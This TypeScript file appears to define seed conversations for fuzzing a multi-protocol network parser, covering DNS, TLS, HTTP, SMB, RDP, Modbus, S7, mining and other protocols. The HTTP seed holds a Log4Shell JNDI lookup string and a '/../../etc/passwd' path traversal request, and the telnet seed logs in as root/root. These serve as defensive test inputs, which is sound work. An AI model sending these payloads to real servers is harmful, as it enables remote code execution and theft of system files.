import {
  create,
  dhcp,
  dnsAnswer,
  dnsQuery,
  hello,
  hex,
  nbns,
  ntlmNegotiate,
  rpcBind,
  rpcRequest,
  serverSide,
  session,
  sized,
  smb2,
  text,
  treeConnect,
} from './messages.ts';

/** What two ends say to each other: `>` the originator. */
export interface Conversation {
  name: string;
  transport: 'tcp' | 'udp';
  /** Port of the responder. */
  port: number;
  messages: readonly ['>' | '<', Buffer][];
}

/** One conversation for each protocol that is read; the seeds of fuzzing. */
export const CONVERSATIONS: readonly Conversation[] = [
  {
    name: 'dns',
    transport: 'udp',
    port: 53,
    messages: [
      ['>', dnsQuery],
      ['<', dnsAnswer],
    ],
  },
  {
    name: 'dns-tcp',
    transport: 'tcp',
    port: 53,
    messages: [
      ['>', sized(dnsQuery)],
      ['<', sized(dnsAnswer)],
    ],
  },
  { name: 'mdns', transport: 'udp', port: 5353, messages: [['>', dnsAnswer]] },
  {
    name: 'tls',
    transport: 'tcp',
    port: 443,
    messages: [
      ['>', hello],
      ['<', serverSide],
      ['>', hex('1703030010'.padEnd(42, 'a'))],
    ],
  },
  {
    name: 'http',
    transport: 'tcp',
    port: 80,
    messages: [
      [
        '>',
        text(
          'POST /a?x=${jndi:ldap://10.0.0.1/a} HTTP/1.1',
          'Host: example.com',
          'User-Agent: curl/8',
          'Content-Length: 5',
          '',
          'hello',
        ),
      ],
      [
        '<',
        text(
          'HTTP/1.1 200 OK',
          'Content-Type: text/html',
          'Transfer-Encoding: chunked',
          '',
          '5',
          'MZ\x90\x00\x03',
          '0',
          '',
        ),
      ],
      ['>', text('GET /../../etc/passwd HTTP/1.1', 'Host: example.com', '')],
    ],
  },
  {
    name: 'ssh',
    transport: 'tcp',
    port: 22,
    messages: [
      ['<', text('SSH-2.0-OpenSSH_9.2')],
      ['>', text('SSH-2.0-PuTTY_0.78')],
      ['>', hex('0000001406141122334455')],
    ],
  },
  {
    name: 'smb2',
    transport: 'tcp',
    port: 445,
    messages: [
      ['>', smb2(0, false, hex('2400020001000000 7f000000'.padEnd(72, '0') + '02021003'))],
      ['<', smb2(0, true, hex('4100010002020000'.padEnd(128, '0')))],
      ['>', smb2(1, false, Buffer.concat([hex('190000010100000000000000 58002000 0000000000000000'), ntlmNegotiate]))],
      ['>', smb2(3, false, treeConnect())],
      ['>', smb2(5, false, create())],
      ['>', smb2(9, false, Buffer.concat([hex('31007000 48000000'.padEnd(96, '0')), rpcBind]))],
    ],
  },
  {
    name: 'smb1',
    transport: 'tcp',
    port: 139,
    messages: [
      ['>', session(hex('ff534d4272000000001853c8'.padEnd(64, '0') + '00 0c00 024e54204c4d20302e313200'))],
      [
        '>',
        session(
          hex(
            'ff534d4275000000001807c8'.padEnd(64, '0') + '04ff00000008000100 1100 00 5c5c485c4950432400 3f3f3f3f3f00',
          ),
        ),
      ],
    ],
  },
  {
    name: 'dcerpc',
    transport: 'tcp',
    port: 135,
    messages: [
      ['>', rpcBind],
      ['<', rpcBind],
      ['>', rpcRequest],
      ['<', rpcRequest],
    ],
  },
  {
    name: 'smtp',
    transport: 'tcp',
    port: 25,
    messages: [
      ['<', text('220 mail.example.com ESMTP')],
      ['>', text('EHLO client', 'AUTH LOGIN', 'dXNlcg==', 'cGFzcw==')],
      ['<', text('250 ok', '334 VXNlcm5hbWU6', '334 UGFzc3dvcmQ6', '235 ok')],
      ['>', text('MAIL FROM:<a@b.c>', 'RCPT TO:<d@e.f>', 'DATA', 'Subject: hi', '', 'text', '.', 'STARTTLS')],
    ],
  },
  {
    name: 'ftp',
    transport: 'tcp',
    port: 21,
    messages: [
      ['<', text('220 FTP server ready')],
      ['>', text('USER anonymous', 'PASS x', 'PASV', 'RETR file')],
      ['<', text('331 password', '230 in', '227 Entering Passive Mode (10,0,0,2,200,10)', '150 go')],
    ],
  },
  {
    name: 'pop3',
    transport: 'tcp',
    port: 110,
    messages: [
      ['<', text('+OK POP3 ready')],
      ['>', text('USER u', 'PASS p')],
      ['<', text('+OK', '-ERR no')],
    ],
  },
  {
    name: 'imap',
    transport: 'tcp',
    port: 143,
    messages: [
      ['<', text('* OK IMAP4rev1')],
      ['>', text('a1 LOGIN user pass')],
      ['<', text('a1 OK done')],
    ],
  },
  {
    name: 'telnet',
    transport: 'tcp',
    port: 23,
    messages: [
      ['<', hex('fffd18fffd20fffb01')],
      ['>', hex('fffb18fffa1800787465726dfff0')],
      ['<', text('login: ')],
      ['>', text('root')],
      ['<', text('Password: ')],
      ['>', text('root')],
    ],
  },
  {
    name: 'modbus',
    transport: 'tcp',
    port: 502,
    messages: [
      ['>', hex('000100000006010300000 00a')],
      ['<', hex('000100000003018302')],
    ],
  },
  {
    name: 's7',
    transport: 'tcp',
    port: 102,
    messages: [
      ['>', hex('0300001611e00000000100c0010ac1020100c2020102')],
      ['<', hex('0300001611d00001000100c0010ac1020100c2020102')],
      ['>', hex('0300001902f08032010000ccc100080000f0000001000103c0')],
    ],
  },
  {
    name: 'mining',
    transport: 'tcp',
    port: 3333,
    messages: [
      [
        '>',
        Buffer.from(
          '{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}\n{"id":2,"method":"mining.authorize","params":["wallet.worker","x"]}\n',
        ),
      ],
      ['<', Buffer.from('{"id":1,"result":[[["mining.set_difficulty","1"]],"08",4],"error":null}\n')],
    ],
  },
  {
    name: 'ldap',
    transport: 'tcp',
    port: 389,
    messages: [
      ['>', hex('300c020101600702010304008000')],
      ['<', hex('300c02010161070a010004000400')],
      ['>', hex('3025020102632004000a01020a0100020100020100010100870b6f626a656374436c6173733000')],
    ],
  },
  {
    name: 'rdp',
    transport: 'tcp',
    port: 3389,
    messages: [
      ['>', Buffer.concat([hex('0300002a25e00000000000'), text('Cookie: mstshash=user'), hex('0100080003000000')])],
      ['<', hex('030000130ed000001234000200080001000000')],
    ],
  },
  {
    name: 'vnc',
    transport: 'tcp',
    port: 5900,
    messages: [
      ['<', Buffer.from('RFB 003.008\n')],
      ['>', Buffer.from('RFB 003.008\n')],
      ['<', hex('020210')],
      ['>', hex('02')],
      ['<', Buffer.alloc(16, 7)],
      ['>', Buffer.alloc(16, 8)],
      ['<', hex('00000001')],
    ],
  },
  {
    name: 'dhcp',
    transport: 'udp',
    port: 67,
    messages: [
      ['>', dhcp],
      ['<', dhcp],
    ],
  },
  {
    name: 'nbns',
    transport: 'udp',
    port: 137,
    messages: [
      ['>', nbns],
      ['<', nbns],
    ],
  },
  {
    name: 'quic',
    transport: 'udp',
    port: 443,
    messages: [['>', hex(`c300000001088394c8f03e5157080000449e00000002${'5a'.repeat(200)}`)]],
  },
  {
    name: 'unknown',
    transport: 'tcp',
    port: 9999,
    messages: [
      ['>', hex('00112233445566778899aabbccddeeff00112233445566778899')],
      ['<', hex('deadbeef')],
    ],
  },
];
